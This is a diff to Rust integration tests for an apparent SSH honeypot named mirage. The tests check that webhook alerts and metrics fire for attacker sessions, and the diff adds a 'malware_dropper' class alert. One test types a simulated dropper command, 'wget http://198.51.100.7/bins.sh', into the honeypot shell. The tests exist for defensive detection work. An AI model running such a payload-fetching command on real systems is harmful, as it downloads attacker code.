@@ -245,7 +245,8 @@ async fn a_webhook_answering_200_gets_each_alert_with_its_severity() {
     let mut shell = SshShell::open(node.ssh).await;
     let out = shell.run("wget http://198.51.100.7/bins.sh").await;
     assert!(out.contains("saved ["), "{out:?}");
-    let got = receiver.wait_for(2).await;
+    // The login, the download, and the session's class (a dropper) as it became known.
+    let got = receiver.wait_for(3).await;
     let bodies: Vec<serde_json::Value> = got.iter().map(Received::json).collect();
     for request in &got {
         assert!(
@@ -276,6 +277,14 @@ async fn a_webhook_answering_200_gets_each_alert_with_its_severity() {
     assert_eq!(download["severity"], "warning");
     assert_eq!(download["details"]["url"], "http://198.51.100.7/bins.sh");
     assert_eq!(download["session"], login["session"]);
+    let class = bodies
+        .iter()
+        .find(|b| b["rule"] == "new_attacker_class")
+        .unwrap();
+    assert_eq!(class["severity"], "info");
+    assert_eq!(class["details"]["class"], "malware_dropper");
+    assert_eq!(class["details"]["source"], "rules");
+    assert_eq!(class["session"], login["session"]);
     // The webhook got the same alerts the log has.
     let events = tokio::task::block_in_place(|| {
         node.wait_for_log("the download alert", |e| {
@@ -288,7 +297,7 @@ async fn a_webhook_answering_200_gets_each_alert_with_its_severity() {
         .unwrap();
     assert_eq!(logged["uuid"], download["uuid"]);
     assert_eq!(logged["message"], download["message"]);
-    wait_for_metric(&node, "mirage_webhook_sent_total{sink=\"json0\"} 2").await;
+    wait_for_metric(&node, "mirage_webhook_sent_total{sink=\"json0\"} 3").await;
     let text = metrics(&node);
     assert!(
         text.contains("mirage_alerts_raised_total{rule=\"download\",severity=\"warning\"} 1"),
@@ -378,6 +387,8 @@ async fn a_webhook_answering_500_is_retried_then_dead_lettered() {
         ("MIRAGE_ALERT_WEBHOOK_MIN_SEVERITY", "info"),
         ("MIRAGE_ALERT_RETRY_BASE_MS", "10"),
         ("MIRAGE_ALERT_RETRY_MAX_MS", "40"),
+        // The login's alert alone: the typed commands' class alert is not followed here.
+        ("MIRAGE_ALERT_RULES_NEW_ATTACKER_CLASS", "off"),
     ]);
     let mut shell = SshShell::open(node.ssh).await;
     type_commands(&mut shell).await;
@@ -411,6 +422,8 @@ async fn a_hanging_webhook_never_holds_up_the_session() {
         ("MIRAGE_ALERT_MAX_RETRIES", "1"),
         ("MIRAGE_ALERT_RETRY_BASE_MS", "10"),
         ("MIRAGE_ALERT_RETRY_MAX_MS", "20"),
+        // The login's alert alone: the typed commands' class alert is not followed here.
+        ("MIRAGE_ALERT_RULES_NEW_ATTACKER_CLASS", "off"),
     ]);
     let mut shell = SshShell::open(node.ssh).await;
     // The login's alert is on its way and the receiver holds it.
@@ -443,6 +456,8 @@ async fn a_refused_connection_is_retried_then_dead_lettered() {
         ("MIRAGE_ALERT_WEBHOOK_MIN_SEVERITY", "info"),
         ("MIRAGE_ALERT_RETRY_BASE_MS", "10"),
         ("MIRAGE_ALERT_RETRY_MAX_MS", "40"),
+        // The login's alert alone: the typed commands' class alert is not followed here.
+        ("MIRAGE_ALERT_RULES_NEW_ATTACKER_CLASS", "off"),
     ]);
     let mut shell = SshShell::open(node.ssh).await;
     type_commands(&mut shell).await;
